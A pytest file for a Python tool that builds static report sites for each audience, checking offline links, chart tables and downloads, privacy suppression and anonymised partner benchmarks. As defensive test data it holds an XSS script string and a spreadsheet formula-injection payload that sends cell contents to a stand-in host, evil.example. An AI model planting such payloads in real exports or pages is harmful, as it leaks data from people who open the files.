"""The static site per audience: pages, links, charts with tables and downloads, privacy."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

pytest.importorskip("matplotlib", reason="charts need the plot extra")
pytest.importorskip("jinja2", reason="pages need the report extra")
pytest.importorskip("scipy", reason="suppression needs the privacy extra")
pytest.importorskip("openpyxl", reason="XLSX downloads need the excel extra")

import openpyxl

from feedbackloop import TOTAL, FeedbackLoop, IndicatorSeries, plot
from feedbackloop._util import FORMULA_TRIGGERS
from feedbackloop.planning import Action, ActionPlan
from feedbackloop.report import source_text
from feedbackloop.series import Provenance
from feedbackloop.site import build

AS_OF = dt.date(2024, 6, 1)
XSS = "<script>alert('x')</script>"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
GROUPS = ("A", "B", "C", "D")

LOOP = FeedbackLoop.from_dict(
    {
        "name": f"Mentoring {XSS}",
        "indicators": [
            {
                "id": "served",
                "name": f"Students matched {XSS}",
                "unit": "students",
                "direction": "higher_is_better",
                "dimensions": ["race"],
            },
            {
                "id": "enrolled",
                "name": "Students enrolled",
                "unit": "students",
                "direction": "higher_is_better",
                "dimensions": ["race"],
            },
        ],
        "shared_result": {
            "id": "mentoring",
            "title": f"More students have a mentor {XSS}",
            "indicators": ["served", "enrolled"],
        },
    }
)


def _series(
    ind_id: str, values: dict[str, list[int]], groups: tuple[str, ...] = GROUPS, **kw: object
) -> IndicatorSeries:
    rows = [
        {"geography": "x", "period": p, "race": g, "value": v}
        for p, vals in values.items()
        for g, v in [*zip(groups, vals, strict=True), (TOTAL, sum(vals))]
    ]
    ind = next(i for i in LOOP.indicators if i.id == ind_id)
    return IndicatorSeries.from_frame(pd.DataFrame(rows), indicator=ind, dimensions=["race"], **kw)  # type: ignore[arg-type]


def _data(base: Path, small: int = 4, other: int = 40) -> dict[str, IndicatorSeries]:
    served = _series(
        "served", {"2022": [30, 40, 50, 60], "2023": [small, other, 50, 60]}, sensitive=True
    )
    census = Provenance(
        adapter="census",
        source="https://api.census.gov/data/2022/acs/acs5",
        options={"requests": 2, "from_cache": 2},
    )
    enrolled = _series(
        "enrolled",
        {"2022": [90, 120, 150, 180], "2023": [95, 125, 155, 185]},
        groups=(EVIL, "B", "C", "D"),
        provenance=Provenance(adapter="csv", source=str(base / "data" / "enrolled.csv")),
    )
    return {"served": served.with_table(served.table, provenance=census), "enrolled": enrolled}


PLAN = ActionPlan(
    actions=[Action(task=EVIL, responsible=["@partner"], start="2024-01-01", stop="2024-03-01")],
    name="Plan",
)


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("loop")
    out = {}
    for audience in ("public", "backbone"):
        folder = tmp_path_factory.mktemp(audience)
        build(
            LOOP,
            _data(base),
            folder,
            audience=audience,
            action_plan=PLAN,
            as_of=AS_OF,
            base_dir=base,
        )
        out[audience] = folder
    return out


def _files(folder: Path, suffix: str) -> list[Path]:
    return sorted(folder.rglob(f"*{suffix}"))


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.ids: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in ("href", "src") and value:
                self.urls.append(value)
            if name == "id" and value:
                self.ids.add(value)


def test_pages_exist_and_every_link_resolves_offline(sites: dict[str, Path]) -> None:
    root = sites["public"]
    for page in (
        "index.html",
        "plan.html",
        "data.html",
        "nodes/mentoring.html",
        "indicators/served.html",
        "indicators/enrolled.html",
    ):
        assert (root / page).is_file(), page
    for page in _files(root, ".html"):
        parser = _Links()
        parser.feed(page.read_text(encoding="utf-8"))
        for url in parser.urls:
            assert "://" not in url and not url.startswith("/"), (page, url)
            target = url.split("#")[0]
            if target:
                assert (page.parent / target).resolve().is_file(), (page, url)


def _csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_every_chart_has_a_table_and_downloads_of_exactly_what_it_plots(
    sites: dict[str, Path],
) -> None:
    root = sites["backbone"]
    for page in _files(root, ".html"):
        text = page.read_text(encoding="utf-8")
        for chart_id in re.findall(r'<figure id="chart-([^"]+)">', text):
            after = text.split(f'<figure id="chart-{chart_id}">', 1)[1]
            assert after.index("<details>") < after.index("</details>")
            assert f"downloads/{chart_id}.csv" in after and f"downloads/{chart_id}.xlsx" in after
            assert (root / "downloads" / f"{chart_id}.csv").is_file()
            assert (root / "downloads" / f"{chart_id}.xlsx").is_file()
    rows = [r for r in _csv(root / "downloads" / "served-trend.csv") if r["line"] == "observed"]
    ax = plot.trend(_data(root)["served"])
    observed = next(line for line in ax.get_lines() if line.get_label() == "observed")
    assert [float(r["value"]) for r in rows] == list(observed.get_ydata()) == [180.0, 154.0]
    assert {r["unit"] for r in rows} == {"students"} and {r["status"] for r in rows} == {"estimate"}
    sheet = openpyxl.load_workbook(root / "downloads" / "served-trend.xlsx")["data"]
    values = list(sheet.values)
    head = list(values[0])
    assert [row[head.index("value")] for row in values[1:] if row[0] == "observed"] == [180, 154]


def test_audiences_get_what_the_agreements_allow(sites: dict[str, Path]) -> None:
    public = _csv(sites["public"] / "downloads" / "served-trend.csv")
    backbone = _csv(sites["backbone"] / "downloads" / "served-trend.csv")
    assert [r["value"] for r in backbone] == ["180", "154"] or [r["value"] for r in backbone] == [
        "180.0",
        "154.0",
    ]
    # the public total is published; group A (4 students) is not, on any page.
    pub = (sites["public"] / "indicators" / "served.html").read_text(encoding="utf-8")
    bb = (sites["backbone"] / "indicators" / "served.html").read_text(encoding="utf-8")
    assert "<em>withheld</em>" in pub and "<em>withheld</em>" not in bb
    assert "2 cell(s) suppressed" in pub
    assert [r["value"] for r in public] == [r["value"] for r in backbone]  # totals are safe
    assert "public" in (sites["public"] / "index.html").read_text(encoding="utf-8")


def test_withheld_cells_never_appear_as_numbers(tmp_path: Path) -> None:
    mpl = pytest.importorskip("matplotlib")
    texts = []
    for i, (a, b) in enumerate(((4, 40), (9, 35))):  # A is withheld, and B with it
        folder = tmp_path / str(i)
        with mpl.rc_context({"svg.hashsalt": "fixed"}):
            build(
                LOOP,
                _data(tmp_path, a, b),
                folder,
                audience="public",
                as_of=AS_OF,
                base_dir=tmp_path,
            )
        files = {}
        for f in sorted(folder.rglob("*")):
            if f.suffix in (".html", ".csv"):
                text = re.sub(
                    r"<metadata>.*?</metadata>", "", f.read_text(encoding="utf-8"), flags=re.DOTALL
                )
                files[str(f.relative_to(folder))] = re.sub(r"on \d{4}-\d\d-\d\d;", "", text)
            elif f.suffix == ".xlsx":
                files[str(f.relative_to(folder))] = repr(
                    [list(ws.values) for ws in openpyxl.load_workbook(f)]
                )
        texts.append(files)
    assert texts[0].keys() == texts[1].keys()
    for name in texts[0]:
        assert texts[0][name] == texts[1][name], name


def test_labels_with_script_stay_inert_everywhere(sites: dict[str, Path]) -> None:
    for root in sites.values():
        pages = _files(root, ".html")
        for page in pages:
            text = page.read_text(encoding="utf-8")
            assert "<script" not in text.lower(), page
        index = (root / "index.html").read_text(encoding="utf-8")
        assert "&lt;script&gt;" in index


def test_downloads_never_hold_a_formula(sites: dict[str, Path]) -> None:
    root = sites["backbone"]
    found = False
    for path in _files(root, ".csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                if cell.startswith(FORMULA_TRIGGERS):
                    assert re.fullmatch(r"[+-]?[\d.]+", cell), (path, cell)
                found = found or cell == "'" + EVIL
    for path in _files(root, ".xlsx"):
        for ws in openpyxl.load_workbook(path):
            for row in ws.values:
                for cell in row:
                    assert not (isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS)), (
                        path,
                        cell,
                    )
    assert found  # the action plan's evil task is there, neutralised


def test_sources_are_relative_and_say_from_cache(sites: dict[str, Path], tmp_path: Path) -> None:
    data = (sites["public"] / "data.html").read_text(encoding="utf-8")
    assert "csv: data/enrolled.csv" in data
    assert "census: https://api.census.gov/data/2022/acs/acs5 (from cache)" in data
    for root in sites.values():
        for f in [*_files(root, ".html"), *_files(root, ".csv")]:
            assert "/enrolled.csv" not in f.read_text(encoding="utf-8").replace(
                "data/enrolled.csv", ""
            ), f
    assert (
        source_text(Provenance(adapter="csv", source="/abs/elsewhere/x.csv"), tmp_path)
        == "csv: x.csv"
    )
    partial = Provenance(adapter="census", source="u", options={"requests": 3, "from_cache": 1})
    assert source_text(partial) == "census: u (1 of 3 requests from cache)"


def _partners(n: int) -> IndicatorSeries:
    ind = next(i for i in LOOP.indicators if i.id == "enrolled")
    names = [f"Org {chr(65 + i)}" for i in range(n)]
    vals = [20 + 7 * i for i in range(n)]
    df = pd.DataFrame(
        {
            "geography": "x",
            "period": "2023",
            "partner": [*names, TOTAL],
            "value": [*vals, sum(vals)],
        }
    )
    return IndicatorSeries.from_frame(df, indicator=ind, dimensions=["partner"])


def test_partner_build_shows_anonymized_peers_or_refuses(tmp_path: Path) -> None:
    build(
        LOOP,
        {"enrolled": _partners(6)},
        tmp_path / "ok",
        audience="partners",
        partner="Org C",
        as_of=AS_OF,
    )
    page = (tmp_path / "ok" / "indicators" / "enrolled.html").read_text(encoding="utf-8")
    rows = _csv(tmp_path / "ok" / "downloads" / "enrolled-benchmark.csv")
    assert {r["partner"] for r in rows} == {"Org C", *(f"Peer {c}" for c in "ABCDE")}
    everything = page + (tmp_path / "ok" / "downloads" / "enrolled-benchmark.csv").read_text(
        encoding="utf-8"
    )
    for other in ("Org A", "Org B", "Org D", "Org E", "Org F"):
        assert other not in everything
    assert "5 anonymized peers" in page
    build(
        LOOP,
        {"enrolled": _partners(3)},
        tmp_path / "few",
        audience="partners",
        partner="Org A",
        as_of=AS_OF,
    )
    few = (tmp_path / "few" / "indicators" / "enrolled.html").read_text(encoding="utf-8")
    assert "No benchmark: benchmark for &#39;Org A&#39; refused: 2 peer(s)" in few
    assert (
        "Org B" not in few
        and not (tmp_path / "few" / "downloads" / "enrolled-benchmark.csv").exists()
    )


def test_loop_diagram_stays_legible_with_many_nodes() -> None:
    doc = {
        "name": "Big",
        "shared_result": {"id": "goal", "title": "The shared result"},
        "key_drivers": [{"id": "driver", "title": "A driver", "contributes_to": ["goal"]}],
        "strategies": [
            {
                "id": f"s{i}",
                "title": f"Strategy {i} with a long title",
                "contributes_to": ["driver"],
            }
            for i in range(12)
        ],
    }
    big = FeedbackLoop.from_dict(doc)
    ax = plot.loop(big)
    boxes = [t for t in ax.texts if t.get_bbox_patch() is not None]
    assert len(boxes) == 14 and min(t.get_fontsize() for t in boxes) >= 8.5
    arrows = [a for a in ax.texts if a not in boxes and a.get_text() == ""]
    assert len(arrows) == 13  # one per link, anchored on the boxes themselves
    assert all(a.xycoords in boxes and a._textcoords in boxes for a in arrows)  # type: ignore[attr-defined]
